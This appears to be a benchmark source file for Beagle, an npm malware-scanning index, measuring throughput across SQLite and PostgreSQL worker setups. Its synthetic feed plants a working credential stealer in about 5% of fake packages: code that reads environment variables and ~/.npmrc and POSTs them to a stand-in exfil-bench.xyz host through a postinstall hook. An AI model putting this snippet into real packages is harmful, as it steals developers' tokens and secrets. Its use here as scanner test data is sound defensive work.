/**
 * "Index service throughput" bench section: sustained end-to-end rate of the Beagle index, from
 * a replayed npm `_changes` feed to stored verdicts, in embedded (SQLite + lease queue) and
 * PostgreSQL (pg-boss) modes, with 1, 2 and 4 workers. Each worker is an IndexWorker with its
 * own scanner thread (and, in PostgreSQL mode, its own connections, as on separate machines).
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import pg from 'pg';
import { defaultConfig, type IndexConfig } from '../service/config.js';
import { FeedFollower } from '../service/feeds/follower.js';
import { NpmFeed } from '../service/feeds/npm.js';
import { type Backend, openBackend } from '../service/index.js';
import { NpmReplayServer, type ReplayVersion } from '../service/replay.js';
import { IndexWorker } from '../service/worker.js';
import type { BenchContext } from './types.js';

const BIN = fileURLToPath(new URL('../../bin/beagle.js', import.meta.url));
const PG_URL = process.env.BEAGLE_BENCH_PG ?? 'postgres://postgres@127.0.0.1:5432/test';

/** Deterministic pseudo-random generator (mulberry32), so every run replays the same feed. */
function rng(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A plausible library module of roughly `lines` lines. */
function libraryModule(r: () => number, i: number, lines: number): string {
  const out = [`'use strict';`, `const util = require('util');`, `const path = require('path');`, ''];
  let fn = 0;
  while (out.length < lines) {
    const n = `helper${i}_${fn++}`;
    const k = Math.floor(r() * 5);
    if (k === 0)
      out.push(
        `function ${n}(items, key) {`,
        `  const seen = new Map();`,
        `  for (const item of items) {`,
        `    const v = item && item[key];`,
        `    if (v === undefined) continue;`,
        `    seen.set(v, (seen.get(v) || 0) + 1);`,
        `  }`,
        `  return [...seen.entries()].sort((a, b) => b[1] - a[1]);`,
        `}`,
      );
    else if (k === 1)
      out.push(
        `async function ${n}(input, options = {}) {`,
        `  const limit = options.limit ?? ${Math.floor(r() * 100)};`,
        `  const parts = String(input).split(path.sep).filter(Boolean);`,
        `  return parts.slice(0, limit).map((p, idx) => util.format('%s:%d', p, idx));`,
        `}`,
      );
    else if (k === 2)
      out.push(
        `class ${n[0]!.toUpperCase()}${n.slice(1)} {`,
        `  constructor(opts) { this.opts = Object.assign({ retries: ${Math.floor(r() * 9)} }, opts); this.cache = new Map(); }`,
        `  get(key) { return this.cache.has(key) ? this.cache.get(key) : this.opts.fallback; }`,
        `  set(key, value) { this.cache.set(key, value); return this; }`,
        `}`,
      );
    else if (k === 3)
      out.push(
        `const ${n} = (text) => text`,
        `  .replace(/[A-Z]/g, (c) => '-' + c.toLowerCase())`,
        `  .replace(/^-/, '')`,
        `  .trim();`,
      );
    else
      out.push(
        `function ${n}(a, b) {`,
        `  if (typeof a !== typeof b) return false;`,
        `  if (typeof a !== 'object' || a === null) return a === b;`,
        `  const ka = Object.keys(a); const kb = Object.keys(b);`,
        `  return ka.length === kb.length && ka.every((k) => ${n}(a[k], b[k]));`,
        `}`,
      );
    out.push('');
  }
  out.push(`module.exports = { ${Array.from({ length: fn }, (_, j) => `helper${i}_${j}`).join(', ')} };`);
  return out.join('\n');
}

const STEALER = (host: string) => `const os = require('os');
const fs = require('fs');
const https = require('https');
const data = JSON.stringify({ env: process.env, host: os.hostname(),
  npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') });
const req = https.request('https://${host}/c', { method: 'POST' });
req.write(data);
req.end();
`;

/** A deterministic feed of `n` package versions (~40 KB of JS each, 5% malicious). */
export function syntheticFeed(n: number, seed = 7): ReplayVersion[] {
  const r = rng(seed);
  const now = Date.now();
  return Array.from({ length: n }, (_, i): ReplayVersion => {
    const malicious = r() < 0.05;
    const files: Record<string, string> = {};
    const count = 4 + Math.floor(r() * 8);
    for (let f = 0; f < count; f++) files[`lib/m${f}.js`] = libraryModule(r, f, 60 + Math.floor(r() * 140));
    files['index.js'] = malicious
      ? STEALER(`c${i % 3}.exfil-bench.xyz`)
      : `module.exports = require('./lib/m0.js');\n`;
    files['README.md'] = `# bench-pkg-${i}\n\nA generated package for the index bench.\n`;
    return {
      name: `bench-pkg-${i}`,
      version: `1.${Math.floor(r() * 20)}.${i}`,
      files,
      scripts: malicious ? { postinstall: 'node index.js' } : undefined,
      publishedAt: now - 1000,
    };
  });
}

export interface IndexBenchResult {
  mode: 'embedded' | 'postgres';
  workers: number;
  versions: number;
  seconds: number;
  rate: number;
  /** Rate after the first 10% (scanner threads warm). */
  sustained: number;
  /** CPU time (bench process + worker processes) per version: independent of other load on the machine. */
  cpuMsPerVersion: number;
  /** 1-minute load average at the end of the run. */
  load: number;
  malicious: number;
  p50LatencyMs: number;
}

/** utime+stime of a live process from /proc (Linux); 0 elsewhere. */
function childCpuMs(pid: number | undefined): number {
  if (!pid) return 0;
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    return ((Number(fields[11]) + Number(fields[12])) * 1000) / 100;
  } catch {
    return 0;
  }
}

async function pgUp(): Promise<boolean> {
  const c = new pg.Client({ connectionString: PG_URL, connectionTimeoutMillis: 2000 });
  try {
    await c.connect();
    return true;
  } catch {
    return false;
  } finally {
    await c.end().catch(() => {});
  }
}

/** One measured run: fresh storage, replay the feed, wait for every verdict. */
export async function runIndexBench(opts: {
  mode: 'embedded' | 'postgres';
  workers: number;
  feed: ReplayVersion[];
  threads: boolean;
  /** Run each worker as a separate `beagle worker` process (needs the build). */
  processes?: boolean;
  log?: (m: string) => void;
}): Promise<IndexBenchResult> {
  const server = await new NpmReplayServer().start();
  // The whole feed is "published" as one burst right before the run starts.
  const burst = Date.now();
  for (const v of opts.feed) await server.add({ ...v, publishedAt: burst });
  const schema = `bgl_bench_${process.pid}_${Date.now().toString(36)}`;
  const sqlite = path.join(os.tmpdir(), `${schema}.db`);
  const config: IndexConfig = defaultConfig();
  config.database = opts.mode === 'postgres' ? PG_URL : `sqlite:${sqlite}`;
  config.pgSchema = schema;
  config.registries = { npm: server.registry };
  config.worker = { ...config.worker, leaseMs: 120_000, pollMs: 20, timeoutMs: 30_000 };
  const backends: Backend[] = [];
  const workers: IndexWorker[] = [];
  const children: ChildProcess[] = [];
  try {
    const main = await openBackend(config);
    backends.push(main);
    const follower = new FeedFollower(
      new NpmFeed({
        changesUrl: server.changesUrl,
        registry: server.registry,
        since: '0',
        batchSize: 200,
        lookbackMs: 86_400_000,
        maxVersionsPerChange: 20,
        timeoutMs: 30_000,
      }),
      main.queue,
      main.store,
      {
        intervalMs: 50,
        errorDelayMs: 200,
        onEnqueued: () => {
          for (const w of workers) w.poke();
        },
      },
    );
    const started = Date.now();
    const cpu0 = process.cpuUsage();
    if (opts.processes) {
      // Real deployment shape: `beagle worker` processes sharing the database.
      for (let i = 0; i < opts.workers; i++) {
        const child = spawn(
          process.execPath,
          [
            BIN,
            'worker',
            '--db',
            config.database,
            '--pg-schema',
            schema,
            '--npm-registry',
            server.registry,
            '--concurrency',
            '1',
            '--threads',
            '0',
            '--lease',
            '120',
          ],
          { stdio: ['ignore', 'ignore', 'pipe'] },
        );
        let stderr = '';
        child.stderr?.setEncoding('utf8').on('data', (d: string) => (stderr = (stderr + d).slice(-2000)));
        child.once('exit', (code, signal) => {
          if (code !== 0 && signal !== 'SIGTERM')
            opts.log?.(`  worker ${i} exited early (${code ?? signal}): ${stderr.trim()}`);
        });
        children.push(child);
      }
    } else {
      for (let i = 0; i < opts.workers; i++) {
        const b = opts.mode === 'postgres' && i > 0 ? await openBackend(config) : main;
        if (b !== main) backends.push(b);
        workers.push(
          new IndexWorker(b.queue, b.store, {
            id: `bench-${i}`,
            concurrency: 1,
            threads: opts.threads ? 1 : 0,
            registries: config.registries,
            timeoutMs: 30_000,
            pollMs: 20,
          }).start(),
        );
      }
    }
    follower.start();
    const n = opts.feed.length;
    let warm: { at: number; done: number } | undefined;
    for (;;) {
      const c = await main.queue.counts();
      if (!warm && c.done + c.parked >= Math.ceil(n * 0.1))
        warm = { at: Date.now(), done: c.done + c.parked };
      if (c.done + c.parked >= n) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    const ended = Date.now();
    const own = process.cpuUsage(cpu0);
    const cpuMs = (own.user + own.system) / 1000 + children.reduce((a, c) => a + childCpuMs(c.pid), 0);
    const seconds = (ended - started) / 1000;
    const sustained = warm && ended > warm.at ? (n - warm.done) / ((ended - warm.at) / 1000) : n / seconds;
    await follower.stop();
    await Promise.all(workers.map((w) => w.stop()));
    await Promise.all(
      children.map(
        (c) =>
          new Promise<void>((resolve) => {
            if (c.exitCode !== null || c.signalCode !== null) return resolve();
            c.once('exit', () => resolve());
            c.kill('SIGTERM');
          }),
      ),
    );
    const rows = await main.db.all<Record<string, any>>('SELECT verdict, latency_ms, scan_ms FROM verdicts');
    opts.log?.(
      `  mean scan ${(rows.reduce((a, r) => a + Number(r.scan_ms), 0) / Math.max(1, rows.length)).toFixed(0)} ms, ${(cpuMs / n).toFixed(0)} CPU-ms/version, load ${os.loadavg()[0]!.toFixed(1)}`,
    );
    const lat = rows.map((r) => Number(r.latency_ms)).sort((a, b) => a - b);
    return {
      mode: opts.mode,
      workers: opts.workers,
      versions: rows.length,
      seconds,
      rate: rows.length / seconds,
      sustained,
      cpuMsPerVersion: cpuMs / n,
      load: os.loadavg()[0]!,
      malicious: rows.filter((r) => r.verdict === 'malicious').length,
      p50LatencyMs: lat[Math.floor(lat.length / 2)] ?? 0,
    };
  } finally {
    for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
    for (const b of backends.reverse()) await b.close().catch(() => {});
    await server.stop();
    rmSync(sqlite, { force: true });
    rmSync(`${sqlite}-wal`, { force: true });
    rmSync(`${sqlite}-shm`, { force: true });
    if (opts.mode === 'postgres') {
      const c = new pg.Client({ connectionString: PG_URL });
      await c.connect();
      await c.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`);
      await c.query(`DROP SCHEMA IF EXISTS ${schema}_boss CASCADE`);
      await c.end();
    }
  }
}

export async function bench(ctx: BenchContext): Promise<string> {
  const n = Number(process.env.BEAGLE_BENCH_INDEX_VERSIONS ?? '400');
  const feed = syntheticFeed(n);
  const kb =
    feed.reduce((a, v) => a + Object.values(v.files).reduce((x, f) => x + f.length, 0), 0) /
    feed.length /
    1024;
  const modes: Array<'embedded' | 'postgres'> = ['embedded'];
  const hasPg = await pgUp();
  if (hasPg) modes.push('postgres');
  else ctx.log(`bench index-service: PostgreSQL not reachable at ${PG_URL}; PostgreSQL mode skipped`);
  const results: IndexBenchResult[] = [];
  for (const mode of modes) {
    for (const workers of [1, 2, 4]) {
      let best: IndexBenchResult | undefined;
      for (let i = 0; i < ctx.repeat; i++) {
        ctx.log(`bench index-service: ${mode}, ${workers} worker(s), ${n} versions`);
        const r = await runIndexBench({ mode, workers, feed, threads: false, processes: true, log: ctx.log });
        if (!best || r.sustained > best.sustained) best = r;
      }
      results.push(best!);
    }
  }
  const cpus = os.availableParallelism?.() ?? os.cpus().length;
  const lines = [
    '## Index service throughput',
    '',
    `End-to-end rate of the index (\`src/bench/index-service.ts\`): a local server replays an npm`,
    `\`_changes\` feed of ${n} package versions (synthetic, ~${kb.toFixed(0)} KB of JavaScript in 5-12 files each,`,
    `5% install-time credential stealers) with real packuments and gzip tarballs; \`beagle watch\` follows it`,
    'and workers download, scan and store each verdict. Time runs from the first poll until every version has a stored',
    'verdict. Each worker is a separate `beagle worker --concurrency 1 --threads 0` process sharing the database',
    '(SQLite file in WAL mode, or PostgreSQL with pg-boss), as separate machines would. CPU-ms per version adds the',
    'CPU time of the bench process (feed follower, replay server, queue polling) and of every worker process; unlike',
    'wall-clock rates it does not depend on what else the machine runs, so the capacity plan uses it.',
    `Machine: ${cpus} CPU(s), ${os.cpus()[0]?.model ?? 'unknown CPU'}, Node ${process.versions.node}.`,
    '',
    '| mode | worker processes | versions | seconds | versions/s (total) | versions/s (sustained) | CPU-ms per version | ⇒ versions/s per free core | malicious found | median publish→verdict | load avg |',
    '|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|',
    ...results.map(
      (r) =>
        `| ${r.mode} | ${r.workers} | ${r.versions} | ${r.seconds.toFixed(1)} | ${r.rate.toFixed(1)} | ${r.sustained.toFixed(1)} | ${r.cpuMsPerVersion.toFixed(0)} | ${(1000 / r.cpuMsPerVersion).toFixed(1)} | ${r.malicious} | ${(r.p50LatencyMs / 1000).toFixed(1)} s | ${r.load.toFixed(1)} |`,
    ),
    '',
    '"Sustained" excludes warm-up (worker processes loading the analyzers): it is the rate after the first 10% of',
    'verdicts. The whole feed is published as one burst just before the run, so the median publish→verdict time',
    'is how long a burst of this size takes to drain, not steady-state latency (see docs/capacity.md).',
    `Wall-clock rates are only comparable between runs on an otherwise idle machine; the load average column shows`,
    'how busy it was (above the CPU count, workers wait for a core and scaling with workers cannot show).',
  ];
  if (!hasPg) lines.push('', `PostgreSQL mode was skipped: no server at ${PG_URL}.`);
  return lines.join('\n');
}
